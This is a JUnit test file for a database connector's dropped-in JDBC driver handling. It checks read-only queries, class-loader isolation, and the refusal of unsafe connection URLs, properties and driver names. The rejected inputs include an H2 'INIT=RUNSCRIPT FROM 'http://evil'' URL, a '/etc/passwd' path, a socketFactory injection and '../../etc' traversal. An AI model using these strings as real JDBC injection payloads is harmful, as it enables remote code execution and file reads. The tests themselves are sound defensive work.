package io.vitrine.source.connect;

import static org.assertj.core.api.Assertions.assertThat;

import io.vitrine.database.DatabaseAddress;
import io.vitrine.error.ErrorCode;
import io.vitrine.error.Refusal;
import io.vitrine.testing.TestPostgres;
import java.io.IOException;
import java.net.URISyntaxException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Drops pgjdbc's jar in the drivers folder: a real driver of a class loader of its own, against a real server. */
class JdbcSourceTest {
    private static final DatabaseAddress ADDRESS = TestPostgres.shared().emptyDatabase();
    private static final Path DRIVERS = Databases.FILES.resolve("drivers");

    @BeforeAll
    static void dropTheDriverIn() throws IOException, URISyntaxException {
        Path jar = Path.of(org.postgresql.Driver.class
                .getProtectionDomain()
                .getCodeSource()
                .getLocation()
                .toURI());
        Files.createDirectories(DRIVERS.resolve("dropped"));
        Files.copy(jar, DRIVERS.resolve("dropped/driver.jar"), StandardCopyOption.REPLACE_EXISTING);
        Files.writeString(
                DRIVERS.resolve("dropped/driver.properties"), "protocol=postgresql\nproperties=ApplicationName\n");
        Files.createDirectories(DRIVERS.resolve("clickhouse"));
        Files.createDirectories(DRIVERS.resolve("h2"));
        Files.writeString(DRIVERS.resolve("h2/driver.properties"), "protocol=h2\nproperties=INIT\n");
        Databases.executePostgres(
                ADDRESS, "create table stock (item text, n bigint)", "insert into stock values ('a', 5)");
    }

    private static Map<String, String> settings() {
        Map<String, String> settings = new HashMap<>();
        settings.put("driver", "dropped");
        settings.put("url", ADDRESS.jdbcUrl().replaceFirst("\\?.*", ""));
        settings.put("user", ADDRESS.user().orElseThrow());
        settings.put("password", ADDRESS.password().orElseThrow());
        settings.put("properties", "ApplicationName=dropped-in");
        return settings;
    }

    private static Database database(Map<String, String> settings) {
        return new Database(SourceKind.JDBC, settings, Databases.postgres().dialect());
    }

    @Test
    void aDroppedInDriverRunsStatements() {
        Rows rows = database(settings())
                .query(
                        "select item, n, current_setting('application_name') from stock where n = ?",
                        new BoundValue.Whole(5));

        assertThat(rows.first()).isEqualTo(List.of("a", 5L, "dropped-in"));
    }

    @Test
    void aDroppedInDriverIsReadOnlyAsFarAsItKnowsHow() {
        assertThat(Refusals.of(() -> database(settings()).query("delete from stock returning n"))
                        .code())
                .isEqualTo(ErrorCode.QUERY_FAILED);
        assertThat(database(settings()).query("select count(*) from stock").single())
                .isEqualTo(1L);
    }

    @Test
    void aDroppedInDriverIsProbed() {
        ProbeResult result = new SourceProbe(Databases.DRIVERS)
                .probe(database(settings()).source().settings());

        assertThat(result.version()).startsWith("PostgreSQL");
        assertThat(result.tables()).extracting(ProbeResult.Table::name).contains("stock");
    }

    @Test
    void aDriverSeesNothingOfThisServer() throws UnusableDriverException {
        var driver = new DriverFolder(DRIVERS).load("dropped");

        assertThat(driver.getClass().getName()).isEqualTo("org.postgresql.Driver");
        assertThat(driver).isNotInstanceOf(org.postgresql.Driver.class);
        assertThat(driver.getClass().getClassLoader().getParent()).isEqualTo(ClassLoader.getPlatformClassLoader());
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil'",
                "jdbc:h2://host/x",
                "jdbc:postgresql://host/db?socketFactory=x",
                "jdbc:postgresql://host/db&a=b",
                "jdbc:postgresql://host:1/db;x=y",
                "jdbc:postgresql:db",
                "jdbc:postgresql:/etc/passwd",
                "jdbc:postgresql://a,b/db",
                "jdbc:postgresql://u:p@host/db",
                "jdbc:postgresql://host/%2e%2e",
                "jdbc:mysql://host/db",
                "postgresql://host/db",
                "jdbc:postgresql:///db"
            })
    void aUrlHoldsHostPortAndDatabaseOnly(String url) {
        Map<String, String> settings = settings();
        settings.put("url", url);

        assertThat(Refusals.of(() -> database(settings).source()).field()).contains("connection.url");
    }

    @Test
    void databasesThatRunWithinTheServerAreNotOffered() {
        Map<String, String> settings = settings();
        settings.put("driver", "h2");
        settings.put("url", "jdbc:h2://host/db");
        settings.put("properties", "INIT=RUNSCRIPT");

        assertThat(Refusals.of(() -> database(settings).source()).field()).contains("connection.url");
    }

    @Test
    void propertiesAreThoseOfTheProductsList() {
        for (String property : List.of("socketFactory=x", "ApplicationName", "loggerFile=/tmp/x")) {
            Map<String, String> settings = settings();
            settings.put("properties", property);
            Refusal refusal = Refusals.of(() -> database(settings).source());
            assertThat(refusal.field()).contains("connection.properties");
            assertThat(refusal.text()).contains("ApplicationName");
        }
    }

    @Test
    void aDriverThatIsNotThereIsNamedWithThoseThatAre() {
        Map<String, String> settings = settings();
        settings.put("driver", "../../etc");

        Refusal refusal = Refusals.of(() -> database(settings).source());

        assertThat(refusal.field()).contains("connection.driver");
        assertThat(refusal.text()).contains("dropped");
    }

    @Test
    void aFolderWithoutADriverIsSaidToHoldNone() {
        Map<String, String> settings =
                Map.of("driver", "clickhouse", "url", "jdbc:clickhouse://127.0.0.1:8123/default");

        Refusal refusal = Refusals.of(() -> new SourceProbe(Databases.DRIVERS)
                .probe(database(settings).source().settings()));

        assertThat(refusal.field()).contains("connection.driver");
        assertThat(refusal.text()).contains("hold no driver");
    }
}
